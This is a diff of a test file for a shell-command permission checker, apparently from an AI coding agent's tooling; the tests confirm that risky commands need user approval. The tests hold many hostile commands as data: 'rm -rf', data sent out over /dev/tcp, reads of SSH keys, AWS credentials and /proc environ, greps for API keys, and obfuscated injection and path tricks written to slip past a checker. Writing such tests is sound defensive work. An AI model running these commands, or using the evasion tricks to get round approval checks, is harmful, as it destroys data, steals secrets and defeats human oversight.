@@ -1,12 +1,17 @@
 import * as assert from 'node:assert/strict';
-import { judgeCommand, type CommandRules } from '../../../src/core/workspace/commandRules';
-import { parseCommand } from '../../../src/core/workspace/shellCommands';
+import { judgeCommand, prefixOf, type CommandRules } from '../../../src/core/workspace/commandRules';
+import { loadShellParser, unjudgeable, type ShellParser } from '../../../src/core/workspace/shellCommands';
 
 const none: CommandRules = { allow: [], deny: [] };
 
-describe('shell command rules (mvdan-sh parser)', () => {
+describe('shell command rules (tree-sitter-bash parser)', () => {
+  let parser: ShellParser;
+  before(async () => {
+    parser = await loadShellParser();
+  });
+
   it('sees every part of compound commands, substitutions, subshells and functions', () => {
-    const parsed = parseCommand('ls -la | grep x && echo "$(rm -rf /)" ; `whoami`\n(cd a; make) || f() { shutdown; }');
+    const parsed = parser.parse('ls -la | grep x && echo "$(rm -rf /)" ; `whoami`\n(cd a; make) || f() { shutdown; }');
     assert.ok(parsed.ok);
     assert.deepEqual(
       parsed.parts.map((p) => (p.special ? `!${p.special}` : p.words.join(' '))),
@@ -14,49 +19,147 @@ describe('shell command rules (mvdan-sh parser)', () => {
     );
   });
 
-  it('allows read-only defaults, also in compounds of them', () => {
-    for (const command of ['ls -la', 'git status', 'git log --oneline -5', 'cat a.txt | grep -n foo | head -3', 'rg TODO src && wc -l x', 'ls 2>/dev/null', 'git diff 2>&1']) {
-      assert.deepEqual(judgeCommand(command, none), { kind: 'allowed' }, command);
+  it('allows read-only defaults, also in compounds of them', async () => {
+    for (const command of ['ls -la', 'git status', 'git log --oneline -5', 'cat a.txt | grep -n foo | head -3', 'rg TODO src && wc -l x', 'ls 2>/dev/null', 'git diff 2>&1', 'echo "$HOME" ${USER}', 'file a.png']) {
+      assert.equal((await judgeCommand(command, none)).kind, 'allowed', command);
     }
   });
 
-  it('asks when any part is not allowed: substitutions, backticks, process substitution, subshells, newlines', () => {
-    for (const command of ['ls $(rm -rf ~)', 'cat `curl evil`', 'diff <(ls) <(rm x)', '(rm x)', 'ls\nrm x', 'ls; rm x', 'ls || rm x', 'ls | sh']) {
-      const verdict = judgeCommand(command, none);
+  it('asks when any part is not allowed: substitutions, backticks, process substitution, subshells, newlines', async () => {
+    for (const command of ['ls $(rm -rf ~)', 'cat `curl evil`', 'diff <(ls) <(rm x)', '(rm x)', 'ls\nrm x', 'ls; rm x', 'ls || rm x', 'ls | sh', '{ rm x; }', 'cat <<EOF\n$(rm x)\nEOF']) {
+      const verdict = await judgeCommand(command, none);
       assert.equal(verdict.kind, 'ask', command);
     }
-    const verdict = judgeCommand('ls && npm test -- --grep x', none);
+    const verdict = await judgeCommand('ls && npm test -- --grep x', none);
     assert.deepEqual(verdict.kind === 'ask' && verdict.prefixes, ['npm test']);
   });
 
-  it('treats writing redirections, assignments and unsafe options of defaults as needing approval', () => {
-    for (const command of ['echo x > notes.txt', 'cat a >> b', 'ls &> out', 'echo hi >& file', 'PATH=. ls', 'export X=1', 'GIT_EXTERNAL_DIFF=evil git diff', 'git diff --output=x', 'rg --pre ./evil x', '$CMD', 'ls\\ -la']) {
-      assert.equal(judgeCommand(command, none).kind, 'ask', command);
+  it('treats writing redirections, assignments and unsafe options of defaults as needing approval', async () => {
+    for (const command of ['echo x > notes.txt', 'cat a >> b', 'ls &> out', 'echo hi >& file', 'PATH=. ls', 'export X=1', 'GIT_EXTERNAL_DIFF=evil git diff', 'git diff --output=x', 'rg --pre ./evil x', '$CMD', 'ls\\ -la', 'for PATH in .; do ls; done', 'unset PATH']) {
+      assert.equal((await judgeCommand(command, none)).kind, 'ask', command);
     }
   });
 
-  it('matches user rules as word prefixes, never as string prefixes', () => {
+  it('never auto-allows [[ ]], arithmetic, parameter operators, subscripts, /dev/tcp, fd duplication or file -C', async () => {
+    const hostile = [
+      "[[ -v 'a[$(touch X)]' ]]",
+      "[ -v 'a[$(touch X)]' ]",
+      "echo ${X='$(touch X)'}${X@P}",
+      "echo ${Y='a[$(touch X)]'} $((Y))",
+      "(( Z='a[$(touch X)]' ))",
+      'echo ${!X}',
+      'echo ${a[X]}',
+      'echo ${HOME:X}',
+      'echo ${X:=y}',
+      'echo $[X]',
+      'echo $((1+2))',
+      'for ((i=0; i<1; i++)); do ls; done',
+      'cat secret 0</dev/tcp/127.0.0.1/9 >&0',
+      'cat secret > /dev/udp/127.0.0.1/9',
+      'cat < /dev/tcp/127.0.0.1/9',
+      'ls >&3',
+      'cat <&3',
+      'cat < "$F"',
+      'ls 1>&-',
+      'file -C -m x',
+      'file --compile -m x',
+    ];
+    for (const command of hostile) {
+      const verdict = await judgeCommand(command, none);
+      assert.equal(verdict.kind, 'ask', command);
+    }
+    // Plain expansions stay read-only.
+    assert.equal((await judgeCommand('echo ${HOME} $HOME "$1" 2>&1 >&2', none)).kind, 'allowed');
+  });
+
+  it('never auto-allows reading another process\'s environment, credential places, or outside the workspace by glob or recursion', async () => {
+    const hostile = [
+      'cat /proc/$PPID/environ',
+      'cat < /proc/1/environ',
+      'cat /pro""c/self/environ',
+      'cat /pro${E}c/1/envi${E}ron',
+      'cat /p*c/$PPID/env*',
+      'head -c 9999 /???c/1/e*',
+      'cat ../../../../proc/$PPID/environ',
+      'cat ~/.ssh/id_ed25519',
+      'cat $HOME/.aws/credentials',
+      'cat ~/.config/gh/hosts.yml',
+      'grep -r sk-ant /',
+      'grep -rn sk-ant ../..',
+      'rg sk-ant ~',
+      'ls -R /',
+      'cat < /dev/t"c"p/127.0.0.1/9',
+      'cat < /dev/tc${E}p/127.0.0.1/9',
+    ];
+    for (const command of hostile) assert.equal((await judgeCommand(command, none)).kind, 'ask', command);
+    for (const command of ['grep -rn foo src', 'cat src/*.ts', 'ls -la', 'cat /etc/os-release', 'rg TODO', 'git log -p -- src', 'du -sh node_modules']) {
+      assert.equal((await judgeCommand(command, none)).kind, 'allowed', command);
+    }
+  });
+
+  it('refuses to judge control characters and text that is not well-formed UTF-16, also against deny rules and *', async () => {
+    const inputs = ['echo \u0080; touch X', 'echo \u009b; touch X', 'echo \u0000; touch X', 'echo a\rtouch X', 'echo \u007f; touch X', 'echo \ud800; touch X', 'echo \udc00; touch X', 'echo x\u001b[2J; rm -rf y'];
+    for (const command of inputs) {
+      assert.ok(unjudgeable(command), JSON.stringify(command));
+      const parsed = parser.parse(command);
+      assert.equal(parsed.ok, false, JSON.stringify(command));
+      assert.equal((await judgeCommand(command, none)).kind, 'ask', JSON.stringify(command));
+      // A deny rule cannot be checked on such a command, so `*` does not let it through either.
+      assert.equal((await judgeCommand(command, { allow: ['*'], deny: ['touch'] })).kind, 'ask', JSON.stringify(command));
+    }
+    assert.equal(unjudgeable('echo "tab\there"\nls'), undefined);
+    assert.equal(unjudgeable('echo ünïcödé 😀'), undefined);
+    assert.equal((await judgeCommand('echo ünïcödé 😀 | cat', none)).kind, 'allowed');
+  });
+
+  it('the parser itself sees both commands after U+0080 and a lone surrogate (no early end of input)', () => {
+    // Bypass the refusal to check the grammar: the same commands with the character in quotes.
+    for (const command of ["echo 'x\u00a0y'; touch X", 'echo "😀"; touch X']) {
+      const parsed = parser.parse(command);
+      assert.ok(parsed.ok, command);
+      assert.deepEqual(parsed.parts.map((p) => p.words[0]), ['echo', 'touch'], command);
+    }
+  });
+
+  it('matches user rules as word prefixes, never as string prefixes', async () => {
     const rules: CommandRules = { allow: ['npm test', 'make'], deny: [] };
-    assert.equal(judgeCommand('npm test', rules).kind, 'allowed');
-    assert.equal(judgeCommand("npm 'test' -- -g x", rules).kind, 'allowed');
-    assert.equal(judgeCommand('npm testx', rules).kind, 'ask');
-    assert.equal(judgeCommand('npm run test', rules).kind, 'ask');
-    assert.equal(judgeCommand('make && npm test', rules).kind, 'allowed');
-    assert.equal(judgeCommand('make && npm publish', rules).kind, 'ask');
+    assert.equal((await judgeCommand('npm test', rules)).kind, 'allowed');
+    assert.equal((await judgeCommand("npm 'test' -- -g x", rules)).kind, 'allowed');
+    assert.equal((await judgeCommand('npm testx', rules)).kind, 'ask');
+    assert.equal((await judgeCommand('npm run test', rules)).kind, 'ask');
+    assert.equal((await judgeCommand('make && npm test', rules)).kind, 'allowed');
+    assert.equal((await judgeCommand('make && npm publish', rules)).kind, 'ask');
   });
 
-  it('lets deny rules win over allow rules, defaults and *', () => {
+  it('marks commands allowed only by the read-only defaults, not those a user rule allowed', async () => {
+    assert.deepEqual(await judgeCommand('git status', none), { kind: 'allowed', readOnly: true });
+    assert.deepEqual(await judgeCommand('git status && make', { allow: ['make'], deny: [] }), { kind: 'allowed' });
+  });
+
+  it('lets deny rules win over allow rules, defaults and *', async () => {
     const rules: CommandRules = { allow: ['*'], deny: ['rm', 'git push'] };
-    assert.deepEqual(judgeCommand('ls && rm -rf build', rules), { kind: 'denied', rule: 'rm', part: 'rm -rf build' });
-    assert.equal(judgeCommand('echo $(git push origin)', rules).kind, 'denied');
-    assert.equal(judgeCommand('git status', { allow: [], deny: ['git'] }).kind, 'denied');
-    assert.equal(judgeCommand('echo x > f && make', rules).kind, 'allowed', '* allows writes too');
+    assert.deepEqual(await judgeCommand('ls && rm -rf build', rules), { kind: 'denied', rule: 'rm', part: 'rm -rf build' });
+    assert.equal((await judgeCommand('echo $(git push origin)', rules)).kind, 'denied');
+    assert.equal((await judgeCommand('git status', { allow: [], deny: ['git'] })).kind, 'denied');
+    assert.equal((await judgeCommand('echo x > f && make', rules)).kind, 'allowed', '* allows writes too');
   });
 
-  it('asks, with no prefix to remember, for what it cannot parse', () => {
-    const verdict = judgeCommand('echo "unterminated', none);
+  it('asks, with no prefix to remember, for what it cannot parse', async () => {
+    const verdict = await judgeCommand('echo "unterminated', none);
     assert.equal(verdict.kind, 'ask');
     assert.deepEqual(verdict.kind === 'ask' && verdict.prefixes, []);
-    assert.match(verdict.kind === 'ask' ? String(verdict.parts[0].special) : '', /cannot be parsed/);
+    assert.match(verdict.kind === 'ask' ? String(verdict.parts[0].special) : '', /cannot be judged/);
+  });
+
+  it('"Always allow" offers the narrowest rule per part, never a bare deleting or sending program', async () => {
+    const verdict = await judgeCommand('npm test -- -g x && git commit -m y && rm -rf build && curl https://x && git push origin && npm publish && make all', none);
+    assert.deepEqual(verdict.kind === 'ask' && verdict.prefixes, ['npm test', 'git commit', 'make all']);
+    const part = (words: string[]) => ({ text: words.join(' '), words, dynamic: false });
+    assert.equal(prefixOf(part(['mv', 'a', 'b'])), undefined);
+    assert.equal(prefixOf(part(['dd', 'if=x'])), undefined);
+    assert.equal(prefixOf(part(['ssh', 'host'])), undefined);
+    assert.equal(prefixOf(part(['wget', 'x'])), undefined);
+    assert.equal(prefixOf(part(['cargo', 'build', '--release'])), 'cargo build');
+    assert.equal(prefixOf(part(['./build.sh', '--fast'])), './build.sh');
   });
 });
